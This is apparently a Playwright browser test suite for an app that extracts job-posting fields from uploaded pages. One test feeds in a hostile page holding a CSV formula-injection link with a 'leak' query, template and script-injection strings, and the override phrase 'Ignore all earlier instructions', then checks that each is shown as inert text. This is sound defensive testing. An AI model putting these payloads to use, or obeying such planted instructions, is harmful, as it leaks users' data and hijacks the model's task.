"""The app in a real browser; a script in the model's place, but for the last test."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from extractors.scripted import ScriptedWorker
from orchestration.engine import PageWorker
from schemas.errors import ModelMissing
from schemas.record import Tier
from tests.app.conftest import Serve
from tests.app.process import started

PAGES = Path(__file__).parent / "pages"
JOBS = [PAGES / "baker.html", PAGES / "nurse.html", PAGES / "welder.html"]

pytestmark = [
    pytest.mark.browser,
    # Gradio 6.17 calls a newer Starlette and a newer pandas by older names.
    pytest.mark.filterwarnings("ignore:'HTTP_422_UNPROCESSABLE_ENTITY'"),
    pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning"),
]


def open_app(tab: Page, address: str) -> None:
    tab.goto(address)
    tab.wait_for_selector("#run")


def upload(tab: Page, *paths: Path) -> None:
    tab.set_input_files("#files input[type=file]", paths)
    for path in paths:
        expect(tab.locator("#files").get_by_text(path.stem).first).to_be_visible()


def run(tab: Page, *paths: Path) -> None:
    """Upload *paths*, run, and wait for the end."""
    upload(tab, *paths)
    tab.click("#run")
    expect(tab.locator("#status")).to_contain_text("done")


def cell(tab: Page, row: int, column: int) -> Locator:
    return tab.locator(f'#table [data-testid="cell-{row}-{column}"]')


def row(tab: Page, number: int) -> list[str]:
    expect(cell(tab, number, 0)).to_be_visible()
    texts = tab.locator(f'#table .body-cell[data-row="{number}"]').all_inner_texts()
    return [text.strip() for text in texts]


def download(tab: Page, button: str) -> bytes:
    expect(tab.locator(button)).to_be_enabled()
    with tab.expect_download() as waiting:
        tab.click(button)
    return Path(waiting.value.path()).read_bytes()


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def test_pages_become_rows_and_files_and_values_show_their_quotes(tab: Page, serve: Serve) -> None:
    open_app(tab, serve())
    run(tab, *JOBS)
    baker = ["baker.html", "Night baker", "Ovnen Bakery", "Bergen, Norway", "NOK 42,500 a month"]
    assert row(tab, 0) == [*baker, "Full-time", "2026-11-03", "ok"]
    assert row(tab, 1)[4] == "–"

    cell(tab, 2, 6).click()
    quote = tab.locator("#quote")
    expect(quote.locator("mark")).to_have_text("9 November 2026")
    expect(quote).to_contain_text("2026-11-09")
    expect(quote).to_contain_text("large tier · confidence 1.00 · /html/body/section/p[1]")
    expect(quote.locator("mark")).to_be_in_viewport()

    pages = json.loads(download(tab, "#json"))
    assert [page["source"] for page in pages] == ["baker.html", "nurse.html", "welder.html"]
    assert pages[1]["records"][0]["values"]["salary"] is None
    table = read_csv(download(tab, "#csv"))
    assert [line["title"] for line in table] == ["Night baker", "School nurse", "Schweißer (m/w/d)"]


def test_rows_appear_while_later_pages_are_read_and_can_be_clicked(tab: Page, serve: Serve) -> None:
    open_app(tab, serve(seconds=1.5))
    upload(tab, *JOBS)
    tab.click("#run")
    expect(cell(tab, 0, 1)).to_have_text("Night baker")
    expect(tab.locator("#status")).to_contain_text("1 of 3 pages")
    cell(tab, 0, 2).click()
    expect(tab.locator("#quote mark")).to_have_text("Ovnen Bakery")
    expect(cell(tab, 1, 1)).to_have_text("School nurse")
    expect(tab.locator("#status")).to_contain_text("2 of 3 pages")


def test_stop_keeps_the_rows_there_are(tab: Page, serve: Serve) -> None:
    open_app(tab, serve(seconds=1.0))
    upload(tab, *JOBS)
    tab.click("#run")
    expect(cell(tab, 0, 1)).to_have_text("Night baker")
    tab.click("#stop")
    expect(tab.locator("#status")).to_contain_text("of 3 pages · stopped")
    expect(tab.locator("#run")).to_be_enabled()
    kept = len(json.loads(download(tab, "#json")))
    assert 1 <= kept < 3
    expect(tab.locator("#table .virtual-row")).to_have_count(kept)


def test_a_hostile_page_is_only_text(tab: Page, serve: Serve) -> None:
    asked: list[str] = []
    address = serve()
    tab.on("request", lambda request: asked.append(request.url))
    open_app(tab, address)
    run(tab, PAGES / "hostile.html")
    title = '=HYPERLINK("http://127.0.0.1:9/?leak","click me")'
    for column in range(1, 8):
        cell(tab, 0, column).click()
        expect(tab.locator("#quote .page")).to_contain_text("Ignore all earlier instructions")
    assert row(tab, 0)[1] == title
    cell(tab, 0, 4).click()
    expect(tab.locator("#quote mark")).to_have_text(
        "${window.hacked=5} {{window.hacked}} `${alert(1)}`"
    )
    assert tab.evaluate("window.hacked") is None
    assert tab.title() == "Fieldwise"
    assert tab.locator("#quote .page *:not(mark)").count() == 0
    assert tab.locator("#table .body-cell :is(a, img, script, style, strong, .katex)").count() == 0
    expect(tab.locator("#run")).to_be_visible()
    assert [url for url in asked if not url.startswith((address, "data:", "blob:"))] == []
    assert read_csv(download(tab, "#csv"))[0]["title"] == f"'{title}"


def test_pages_that_fail_are_rows_with_their_reason(
    tab: Page, serve: Serve, tmp_path: Path
) -> None:
    (tmp_path / "picture.html").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    (tmp_path / "empty.html").write_text("<title></title><script>draw()</script>")
    (tmp_path / "tired.html").write_text("<p>Fail: the runtime stopped</p>")
    open_app(tab, serve())
    run(tab, tmp_path / "picture.html", tmp_path / "empty.html", tmp_path / "tired.html", JOBS[0])
    expect(tab.locator("#status")).to_contain_text("4 of 4 pages · 2 failed · 1 bad · done")
    assert row(tab, 0)[-1].startswith("failed: ")
    assert row(tab, 1)[-1].startswith("bad: needs a browser")
    assert row(tab, 2)[-1] == "failed: the runtime stopped"
    assert row(tab, 3)[-1] == "ok"
    cell(tab, 1, 2).click()
    expect(tab.locator("#quote")).to_contain_text("scripts draw this page")


def test_a_zip_and_fields_of_ones_own(tab: Page, serve: Serve, tmp_path: Path) -> None:
    archive = tmp_path / "two.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        packed.write(JOBS[0], "jobs/a.html")
        packed.write(JOBS[1], "jobs/b.html")
    open_app(tab, serve())
    choose_own(tab, "company, numbr frobnicate kind")
    expect(tab.locator("#fields .trouble")).to_be_visible()
    tab.fill("#own textarea", "company, date_posted date")
    expect(tab.locator("#fields")).to_contain_text("company, date_posted")
    run(tab, archive)
    assert row(tab, 0) == ["two.zip::jobs/a.html", "Ovnen Bakery", "2026-11-03", "ok"]
    assert row(tab, 1) == ["two.zip::jobs/b.html", "Fjellby kommune", "2026-10-21", "ok"]


def choose_own(tab: Page, text: str) -> None:
    tab.click("#schema input")
    tab.get_by_role("option", name="my own…").click()
    tab.fill("#own textarea", text)


def test_a_line_that_is_no_address_reads_no_file(tab: Page, serve: Serve) -> None:
    open_app(tab, serve())
    tab.fill("#urls textarea", str(JOBS[0]))
    tab.click("#run")
    expect(tab.locator("#status .trouble")).to_contain_text("is no web address")
    expect(tab.locator("#run")).to_be_enabled()
    tab.fill("#urls textarea", "")
    tab.click("#run")
    expect(tab.locator("#status .trouble")).to_contain_text("there is no page to read")


def test_without_weights_the_reason_is_shown_and_run_tries_again(tab: Page, serve: Serve) -> None:
    attempts: list[Tier] = []

    def fetch(tier: Tier) -> PageWorker:
        attempts.append(tier)
        if len(attempts) == 1:
            raise ModelMissing("no weights named <qwen>", hint="plug in the cable")
        return ScriptedWorker()

    open_app(tab, serve(open_worker=fetch))
    upload(tab, JOBS[0])
    tab.click("#run")
    reason = "no weights named <qwen> (plug in the cable)"
    expect(tab.locator("#status .trouble")).to_have_text(reason)
    expect(tab.locator("#model")).to_contain_text(f"No model: {reason}")
    expect(tab.locator("#run")).to_be_enabled()
    tab.click("#run")
    expect(tab.locator("#status")).to_contain_text("1 of 1 pages · done")
    expect(tab.locator("#model")).to_contain_text("Model ready")


def test_a_second_visitor_waits_for_the_first_and_sees_only_its_own(
    tab: Page, serve: Serve
) -> None:
    address = serve(seconds=1.0)
    open_app(tab, address)
    upload(tab, JOBS[0], JOBS[1])
    tab.click("#run")
    expect(tab.locator("#status")).to_contain_text("of 2 pages")
    other = tab.context.new_page()
    open_app(other, address)
    upload(other, JOBS[2])
    other.click("#run")
    expect(other.locator("#status")).to_contain_text("Waiting for its turn")
    expect(other.locator("#status")).to_contain_text("1 of 1 pages · done")
    assert row(other, 0)[0] == "welder.html"
    expect(other.locator("#table .virtual-row")).to_have_count(1)
    expect(tab.locator("#table .virtual-row")).to_have_count(2)


def test_a_visitor_who_leaves_does_not_keep_the_model_busy(tab: Page, serve: Serve) -> None:
    address = serve(seconds=5.0)
    open_app(tab, address)
    upload(tab, *JOBS)
    tab.click("#run")
    expect(tab.locator("#status")).to_contain_text("0 of 3 pages")
    other = tab.context.new_page()
    open_app(other, address)
    tab.close()
    upload(other, JOBS[2])
    other.click("#run")
    expect(other.locator("#status")).to_contain_text("1 of 1 pages · done", timeout=12_000)


def test_a_click_in_a_sorted_table_shows_the_row_that_was_clicked(tab: Page, serve: Serve) -> None:
    open_app(tab, serve())
    run(tab, *JOBS)
    header = tab.locator("#table .header-cell", has_text="company").last
    header.hover()
    header.get_by_label("Open cell menu").click()
    tab.get_by_role("menuitem", name="Sort ascending").click()
    names = tab.locator("#table .body-cell", has_text=".html")
    expect(names).to_have_text(["nurse.html", "baker.html", "welder.html"])
    tab.locator("#table .body-cell", has_text="School nurse").click()
    expect(tab.locator("#quote mark")).to_have_text("School nurse")
    expect(tab.locator("#quote .head")).to_contain_text("nurse.html")


def test_a_phone_shows_everything_in_one_column(tab: Page, serve: Serve) -> None:
    tab.set_viewport_size({"width": 390, "height": 844})
    open_app(tab, serve())
    run(tab, *JOBS)
    cell(tab, 0, 1).click()
    expect(tab.locator("#quote mark")).to_be_in_viewport()
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390


@pytest.mark.weights
@pytest.mark.timeout(1200)
def test_three_pages_with_the_real_model(tab: Page, tmp_path: Path) -> None:
    """The first run fetches and compiles the model, which takes minutes."""
    with started(tmp_path) as address:
        open_app(tab, address)
        upload(tab, *JOBS)
        tab.click("#run")
        expect(tab.locator("#status")).to_contain_text("3 of 3 pages · done", timeout=900_000)
        assert [row(tab, number)[0] for number in range(3)] == [path.name for path in JOBS]
        company = cell(tab, 0, 2)
        expect(company).to_contain_text("Ovnen")
        company.click()
        expect(tab.locator("#quote mark").first).to_contain_text("Ovnen")
        pages: list[dict[str, Any]] = json.loads(download(tab, "#json"))
        assert all(page["status"] == "ok" and page["records"] for page in pages)
        assert [line["source"] for line in read_csv(download(tab, "#csv"))] == [
            path.name for path in JOBS
        ]
